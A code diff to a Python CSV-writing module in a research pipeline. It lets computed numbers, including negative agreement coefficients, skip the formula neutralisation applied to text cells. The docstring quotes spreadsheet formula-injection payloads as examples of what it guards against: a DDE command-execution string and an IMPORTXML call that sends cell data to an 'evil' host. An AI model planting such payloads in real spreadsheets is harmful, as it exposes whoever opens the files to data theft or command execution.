@@ -8,9 +8,11 @@ BOM, header always written, ``None`` an empty cell, integers in decimal), with t
   analysts, coders and producers open these files in Excel or Google Sheets. A cell whose text starts with
   ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be read as a formula (``=HYPERLINK(...)``,
   ``+cmd|' /C calc'!A0``, ``=IMPORTXML("http://evil/?"&A2, ...)``), so it gets a leading ``'``, the spreadsheet
-  convention for "this is text"; the spreadsheet shows the text as sent. No column the pipeline writes holds a
-  negative number (codes, ``true``/``false``, ``0``/``1``, ages 10-99, run ids are positive), so a cell starting
-  with ``-`` is always a participant's text or a code name and is neutralised like the others. JSON outputs (Coda
+  convention for "this is text"; the spreadsheet shows the text as sent. No text column the pipeline writes holds a
+  negative number (codes, ``true``/``false``, ``0``/``1``, ages 10-99, run ids are positive), so a text cell
+  starting with ``-`` is always a participant's text or a code name and is neutralised like the others. Numbers
+  passed as numbers (``int``, ``Decimal``: the coding-quality coefficients, which can be negative) are never
+  formulas and are written as they are. JSON outputs (Coda
   files, the audit trail) keep the text as sent.
 - **CR and LF are always quoted.** Python's csv module with the ``\\n`` terminator leaves a bare ``\\r``
   unquoted (2019's files have such rows, which every reader splits in two), and whether it does depends on the
@@ -25,6 +27,7 @@ from __future__ import annotations
 
 import os
 import re
+from decimal import Decimal
 from typing import IO, Any, Iterable, Sequence
 
 from redss_pipeline.core.atomic_files import atomic_open
@@ -46,9 +49,15 @@ def neutralise(text: str) -> str:
 
 def render_cell(value: Any) -> str:
     """The characters written for one value: empty for None, decimal for integers, the text otherwise; then
-    NUL dropped, formula neutralised, quoted when it holds a comma, a quote, a CR or an LF."""
+    NUL dropped, formula neutralised, quoted when it holds a comma, a quote, a CR or an LF.
+
+    A number the pipeline computed and passes as a number (``int`` or ``Decimal``, e.g. a negative Cohen's kappa
+    in ``icr_agreement.csv``) is written as it is: a spreadsheet reads ``-0.250`` as a number, never as a
+    formula. The same characters passed as text (a listener's answer ``-1``) are neutralised."""
     if value is None:
         return ""
+    if type(value) is int or type(value) is Decimal:
+        return str(value)
     text = value if type(value) is str else str(value)
     if "\x00" in text:
         text = text.replace("\x00", "")
